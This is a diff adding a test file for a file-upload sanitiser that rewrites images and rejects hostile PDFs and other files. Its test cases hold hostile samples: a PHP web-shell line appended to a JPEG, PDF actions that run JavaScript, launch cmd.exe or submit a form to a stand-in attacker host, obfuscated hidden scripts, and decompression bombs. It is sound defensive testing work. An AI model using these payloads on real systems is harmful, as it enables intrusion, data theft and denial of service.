@@ -1,0 +1,203 @@
+import { crc32, deflateSync } from 'node:zlib'
+import sharp from 'sharp'
+import { describe, expect, it } from 'vitest'
+import { jpeg, pdf, photograph, png } from '../testing/files.ts'
+import { checkFile } from './check-file.ts'
+
+/** A small PDF of the given objects, as somebody would write it by hand. */
+const rawPdf = (...objects: (string | Buffer)[]): Buffer =>
+  Buffer.concat([
+    Buffer.from('%PDF-1.7\n'),
+    ...objects.flatMap((object, n) => [
+      Buffer.from(`${n + 1} 0 obj\n`),
+      Buffer.from(object),
+      Buffer.from('\nendobj\n'),
+    ]),
+    Buffer.from('trailer << /Root 1 0 R >>\n%%EOF\n'),
+  ])
+const catalog = '<< /Type /Catalog /Pages 2 0 R >>'
+const stream = (head: string, body: Buffer): Buffer =>
+  Buffer.concat([
+    Buffer.from(`<< ${head} /Length ${body.length} >>\nstream\n`),
+    body,
+    Buffer.from('\nendstream'),
+  ])
+
+/** A square PNG of one bit for each pixel, all white, written without ever being in memory as a picture. */
+function whitePng(side: number): Buffer {
+  const chunk = (type: string, data: Buffer) => {
+    const body = Buffer.concat([Buffer.from(type), data])
+    const length = Buffer.alloc(4)
+    length.writeUInt32BE(data.length)
+    const check = Buffer.alloc(4)
+    check.writeUInt32BE(crc32(body))
+    return Buffer.concat([length, body, check])
+  }
+  const header = Buffer.alloc(13)
+  header.writeUInt32BE(side, 0)
+  header.writeUInt32BE(side, 4)
+  header[8] = 1
+  const rows = deflateSync(Buffer.alloc((side / 8 + 1) * side), { level: 1 })
+  const signature = Buffer.from('89504e470d0a1a0a', 'hex')
+  return Buffer.concat([
+    signature,
+    chunk('IHDR', header),
+    chunk('IDAT', rows),
+    chunk('IEND', Buffer.alloc(0)),
+  ])
+}
+
+describe('good files', () => {
+  it('writes pictures anew, without what they said of their maker and place', async () => {
+    const original = await photograph()
+    expect(original.includes('SECRET-ARTIST')).toBe(true)
+    const { type, bytes } = await checkFile(original)
+    expect(type).toBe('image/jpeg')
+    expect(bytes.includes('SECRET-ARTIST')).toBe(false)
+    const metadata = await sharp(bytes).metadata()
+    expect([metadata.exif, metadata.orientation]).toEqual([undefined, undefined])
+    // Turned upright by what the metadata said before it was dropped.
+    expect([metadata.width, metadata.height]).toEqual([40, 64])
+  })
+
+  it('drops what was appended to a picture', async () => {
+    const { bytes } = await checkFile(Buffer.concat([await jpeg(), Buffer.from('<?php system($_GET[0]) ?>')]))
+    expect(bytes.includes('php')).toBe(false)
+  })
+
+  it('keeps PNG as PNG and makes large pictures smaller', async () => {
+    expect((await checkFile(await png())).type).toBe('image/png')
+    const large = await sharp({ create: { width: 6000, height: 3000, channels: 3, background: 'white' } })
+      .jpeg()
+      .toBuffer()
+    const { width } = await sharp((await checkFile(large)).bytes).metadata()
+    expect(width).toBe(4000)
+  })
+
+  it('takes a plain PDF, also one with a link to a web page', async () => {
+    const plain = await pdf((document) => void document.link(0, 0, 10, 10, 'https://planet.example'))
+    expect(await checkFile(plain)).toEqual({ type: 'application/pdf', bytes: plain })
+  })
+
+  it('takes a PDF whose objects are packed in the usual way', async () => {
+    const packed = stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync('9 0 << /A 1 >>'))
+    expect((await checkFile(rawPdf(catalog, packed))).type).toBe('application/pdf')
+  })
+})
+
+describe('hostile files', () => {
+  it.each([
+    ['nothing', Buffer.alloc(0)],
+    ['a web page', Buffer.from('<html><script>alert(1)</script></html>')],
+    ['SVG', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
+    ['a GIF', Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00;', 'latin1')],
+    ['a program', Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1')],
+    ['a ZIP', Buffer.from('PK\x03\x04aaaaaaaaaaaaaaaaaaaaaaaaaaaa', 'latin1')],
+    ['a JPEG in name only', Buffer.from('\xff\xd8\xff\xe0\x00\x10JFIF\x00nonsense', 'latin1')],
+    ['a PNG in name only', Buffer.from('\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01', 'latin1')],
+  ])('refuses %s', async (_, bytes) => {
+    await expect(checkFile(bytes)).rejects.toMatchObject({ name: 'HostileFileError' })
+  })
+
+  it('refuses a picture that is cut off', async () => {
+    const whole = await sharp({
+      create: {
+        width: 500,
+        height: 500,
+        channels: 3,
+        background: 'red',
+        noise: { type: 'gaussian', mean: 100, sigma: 30 },
+      },
+    })
+      .jpeg()
+      .toBuffer()
+    await expect(checkFile(whole.subarray(0, whole.length / 2))).rejects.toMatchObject({
+      name: 'HostileFileError',
+    })
+  })
+
+  it('reads such a picture when it is of a reasonable size', async () => {
+    expect((await checkFile(whitePng(2000))).type).toBe('image/png')
+  })
+
+  it('refuses a picture that is small in bytes and huge in memory', async () => {
+    const bomb = whitePng(20_000)
+    expect(bomb.length).toBeLessThan(2_000_000)
+    await expect(checkFile(bomb)).rejects.toMatchObject({ name: 'HostileFileError' })
+  })
+
+  it.each([
+    ['JavaScript', '<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'],
+    ['JavaScript written with escapes', '<< /OpenAction << /S /J#61vaScr#69pt /JS (x) >> >>'],
+    ['a program to launch', '<< /OpenAction << /S /Launch /F (cmd.exe) >> >>'],
+    ['a file inside', '<< /Names << /EmbeddedFiles 3 0 R >> >>'],
+    ['a form that sends itself', '<< /S /SubmitForm /F (https://evil.example) >>'],
+    ['an XFA form', '<< /AcroForm << /XFA 5 0 R >> >>'],
+    ['rich media', '<< /Subtype /RichMedia >>'],
+    ['encryption', '<< /Encrypt 5 0 R >>'],
+  ])('refuses a PDF with %s', async (_, object) => {
+    await expect(checkFile(rawPdf(catalog, object))).rejects.toMatchObject({ name: 'HostileFileError' })
+  })
+
+  const script = '9 0 << /S /JavaScript /JS (app.alert(1)) >>'
+  it.each([
+    ['packed objects', stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(script))],
+    [
+      'packed objects behind escapes',
+      stream('/Type /Obj#53tm /N 1 /Filter [ /FlateDecode ]', deflateSync(script)),
+    ],
+    [
+      'objects that call themselves a picture',
+      stream('/Subtype /Image /Filter /FlateDecode', deflateSync(script)),
+    ],
+    [
+      'objects that are packed unusually',
+      stream('/Type /ObjStm /Filter /LZWDecode', Buffer.from('whatever')),
+    ],
+    [
+      'objects that are packed twice',
+      stream('/Type /ObjStm /Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(script))),
+    ],
+    [
+      'objects that cannot be unpacked',
+      stream('/Type /ObjStm /Filter /FlateDecode', Buffer.from('not deflate')),
+    ],
+  ])('refuses a PDF that hides a script in %s', async (_, object) => {
+    await expect(checkFile(rawPdf(catalog, object))).rejects.toMatchObject({ name: 'HostileFileError' })
+  })
+
+  const lzw = (before: string) =>
+    stream(`${before} /Type /ObjStm /Filter /LZWDecode`, Buffer.from('whatever'))
+  it.each([
+    [
+      'behind a long padding',
+      lzw(`/Padding (${'x'.repeat(5000)}) /Type /ObjStm /More (${'y'.repeat(5000)})`),
+    ],
+    [
+      'behind a string that looks like another object',
+      stream('/Type /ObjStm /Filter /LZWDecode /X (endobj 7 0 obj)', Buffer.from('x')),
+    ],
+    ['behind a comment that looks like a stream', Buffer.concat([Buffer.from('% << >> stream\n'), lzw('')])],
+  ])('refuses a PDF whose objects hide %s', async (_, object) => {
+    await expect(checkFile(rawPdf(catalog, object))).rejects.toMatchObject({ name: 'HostileFileError' })
+  })
+
+  it('spends little time on streams that break while they are unpacked', async () => {
+    const broken = deflateSync(Buffer.alloc(5 * 1024 * 1024), { level: 1 })
+    broken.fill(0xff, broken.length - 200)
+    const file = rawPdf(catalog, ...Array.from({ length: 60 }, () => stream('/Filter /FlateDecode', broken)))
+    await expect(checkFile(file)).rejects.toMatchObject({ name: 'HostileFileError' })
+  })
+
+  it('refuses a PDF that unpacks without end', async () => {
+    const bomb = stream('/Filter /FlateDecode', deflateSync(Buffer.alloc(70 * 1024 * 1024), { level: 1 }))
+    await expect(checkFile(rawPdf(catalog, bomb))).rejects.toMatchObject({ name: 'HostileFileError' })
+  })
+
+  it('refuses a PDF that is cut off, or begins as something else', async () => {
+    const whole = await pdf()
+    await expect(checkFile(whole.subarray(0, whole.length - 200))).rejects.toMatchObject({
+      name: 'HostileFileError',
+    })
+  })
+})
